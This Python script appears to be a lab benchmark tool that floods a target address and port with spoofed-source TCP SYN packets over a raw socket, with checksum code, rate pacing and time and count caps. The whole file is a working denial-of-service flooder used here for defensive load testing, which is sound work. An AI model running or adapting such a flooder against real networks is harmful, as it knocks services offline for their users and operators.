#!/usr/bin/env python3
# A bounded SYN flood for the lab (issue 15 item 4's end-to-end test and
# `npm run bench -- synflood-lab`): SYNs to VIP:PORT from spoofed sources
# (FIRST, FIRST+1, ... over POOL addresses, each with a few source ports), sent
# raw (AF_PACKET) on DEV from the flooder's own MAC to the router's MAC, as an
# attacker on the client's segment would. The frames are built once (checksums
# right, an MSS option as real stacks send), then sent in a loop as fast as the
# socket takes them, or paced to RATE per second when RATE > 0. Run only inside
# a lab namespace. Stops at COUNT frames or LIMIT seconds, whichever first, and
# prints {"sent": n, "seconds": s, "rate": r} on one line.
#   python3 syn-flood.py DEV SRC_MAC DST_MAC VIP PORT FIRST POOL COUNT LIMIT [RATE]
import json, socket, struct, sys, time

dev, smac, dmac, vip, port, first = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], int(sys.argv[5]), sys.argv[6]
pool, count, limit = int(sys.argv[7]), int(sys.argv[8]), float(sys.argv[9])
rate = float(sys.argv[10]) if len(sys.argv) > 10 else 0.0
assert 0 < pool <= 65536, 'pool: 1 to 65536'
assert 0 < count <= 50_000_000, 'count: 1 to 50,000,000'
assert 0 < limit <= 120, 'limit: at most 120 s'

mac = lambda s: bytes(int(x, 16) for x in s.split(':'))
eth = mac(dmac) + mac(smac) + b'\x08\x00'
dst = socket.inet_aton(vip)
base = struct.unpack('!I', socket.inet_aton(first))[0]


def csum(b):
    if len(b) % 2:
        b += b'\x00'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def frame(i):
    src = struct.pack('!I', (base + (i % pool)) & 0xffffffff)
    sport = 1024 + (i * 7919) % 60000
    seq = (i * 2654435761) & 0xffffffff
    opts = b'\x02\x04\x05\xb4'  # MSS 1460
    tcp = struct.pack('!HHIIBBHHH', sport, port, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + opts
    tsum = csum(src + dst + struct.pack('!BBH', 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack('!H', tsum) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), i & 0xffff, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return eth + ip + tcp


# Distinct tuples: the pool of addresses times 4 ports each (so a short run never repeats one).
frames = [frame(i) for i in range(min(count, pool * 4))]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((dev, 0))
send = s.send
n = len(frames)
t0 = time.monotonic()
deadline = t0 + limit
sent = 0
while sent < count:
    now = time.monotonic()
    if now > deadline:
        break
    if rate > 0 and sent > rate * (now - t0):
        time.sleep(0.0005)
        continue
    # 256 frames between clock reads: the loop's cost is the send itself.
    for _ in range(min(256, count - sent)):
        try:
            send(frames[sent % n])
        except OSError:  # ENOBUFS: the device queue is full; count what went
            break
        sent += 1
dt = time.monotonic() - t0
print(json.dumps({'sent': sent, 'seconds': round(dt, 3), 'rate': round(sent / dt) if dt > 0 else 0}))
